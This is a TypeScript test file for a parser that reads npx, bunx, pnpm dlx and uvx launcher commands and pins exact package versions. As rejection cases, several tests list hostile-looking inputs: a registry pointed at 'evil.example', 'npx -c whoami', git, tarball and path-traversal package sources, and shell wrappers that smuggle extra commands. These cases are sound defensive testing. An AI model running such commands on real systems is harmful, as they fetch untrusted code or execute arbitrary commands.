import fc from "fast-check";
import { expect, test } from "vitest";
import { pinCommand, readPackageCommand } from "./package-command.ts";

const read = (line: string) => readPackageCommand(line.split(" "));

test("readPackageCommand() reads the launchers that READMEs use", () => {
  expect(read("npx -y @a/server@1.2.3 --port 1")).toEqual({
    kind: "npm",
    specs: ["@a/server@1.2.3"],
    args: ["--port", "1"],
  });
  expect(read("npx -y -p @a/server -p helper run-it x")).toEqual({
    kind: "npm",
    specs: ["@a/server", "helper"],
    program: "run-it",
    args: ["x"],
  });
  expect(read("npx --package=server@^2 -- start -y")).toMatchObject({
    specs: ["server@^2"],
    program: "start",
    args: ["-y"],
  });
  for (const words of ["bunx --bun", "bun x", "pnpm dlx", "yarn dlx", "npm exec -y --"])
    expect(read(`${words} server a`), words).toMatchObject({ kind: "npm", specs: ["server"], args: ["a"] });
  expect(read("uvx --from tools==1.0 start")).toMatchObject({ kind: "python", specs: ["tools==1.0"] });
  for (const other of ["node server.js", "npm run start", "npx ./server", "docker run -i image"])
    expect(read(other), other).toBeUndefined();
});

test("readPackageCommand() sees through shells, paths and endings of Windows, and refuses what it cannot see through", () => {
  const plain = { kind: "npm", specs: ["@a/server"], args: ["x"] };
  for (const argv of [
    ["cmd", "/c", "npx", "-y", "@a/server", "x"],
    ["cmd.exe", "/C", "npx -y @a/server x"],
    ["bash", "-lc", "exec npx -y @a/server x"],
    ["/bin/sh", "-c", "npx -y @a/server x"],
    ["C:\\Program Files\\nodejs\\npx.cmd", "-y", "@a/server", "x"],
    ["/opt/node/bin/npx", "-y", "@a/server", "x"],
  ]) {
    expect(readPackageCommand(argv), argv.join(" ")).toEqual(plain);
    const pinned = pinCommand(argv, new Map([["@a/server", "@a/server@1.0.0"]]));
    expect(pinned).toEqual(["npx", "-y", "@a/server@1.0.0", "x"]);
  }
  expect(readPackageCommand(["cmd", "/c", "uvx", "tools"])).toMatchObject({
    kind: "python",
    specs: ["tools"],
  });
  for (const argv of [
    ["sh", "-c", "cd /tmp && npx -y server"],
    ["sh", "-c", "npx -y server $HOME"],
    ["sh", "-c", "TOKEN=1 npx -y server"],
    ["env", "TOKEN=1", "npx", "-y", "server"],
    ["/usr/bin/env", "uvx", "server"],
  ])
    expect(() => readPackageCommand(argv), argv.join(" ")).toThrow(/around \w+ is not supported. Begin with/);
  for (const argv of [
    ["cmd", "/c", "server.bat"],
    ["sh", "-c", "./start"],
    ["./npx", "server"],
    ["env", "node", "a"],
  ])
    expect(readPackageCommand(argv), argv.join(" ")).toBeUndefined();
});

test("readPackageCommand() refuses options that it does not know, and packages that are not of a registry", () => {
  for (const line of [
    ...["npx --registry=http://evil.example server", "npx -c whoami", "npx --node-options=-rx server"],
    ...[
      "npx -y git+https://example.com/a.git",
      "npx -y user/repository",
      "npx -y server@file:../x",
      "npx -y",
    ],
    ...["npx -y https://example.com/a.tgz", "npx -y server@https://example.com/a.tgz", "npx -y @a/../b"],
  ])
    expect(() => read(line), line).toThrow(/is not supported/);
});

test("readPackageCommand() never takes an option for a package, whatever is typed", () => {
  const word = fc.oneof(
    fc.string(),
    fc.constantFrom("-y", "-p", "--", "--package=a", "server@1", "--x", "a=b", "@s/p"),
  );
  fc.assert(
    fc.property(
      fc.constantFrom("npx", "bunx", "uvx"),
      fc.array(word, { maxLength: 8 }),
      (launcher, words) => {
        let found: ReturnType<typeof readPackageCommand>;
        try {
          found = readPackageCommand([launcher, ...words]);
        } catch {
          return;
        }
        for (const spec of found?.specs ?? []) {
          expect(spec).not.toMatch(/^-|^\.|:|\0|\n/);
          expect(words.some((each) => each.endsWith(spec))).toBe(true);
        }
      },
    ),
    { numRuns: 10_000 },
  );
});

test("pinCommand() writes the exact version where the package is named, and nowhere else", () => {
  const exact = new Map([["server", "server@1.0.0"]]);
  expect(pinCommand(["npx", "-y", "server", "server"], exact)).toEqual([
    "npx",
    "-y",
    "server@1.0.0",
    "server",
  ]);
  expect(pinCommand(["npx", "--package=server", "start"], exact)).toEqual([
    ...["npx", "--package=server@1.0.0", "start"],
  ]);
});
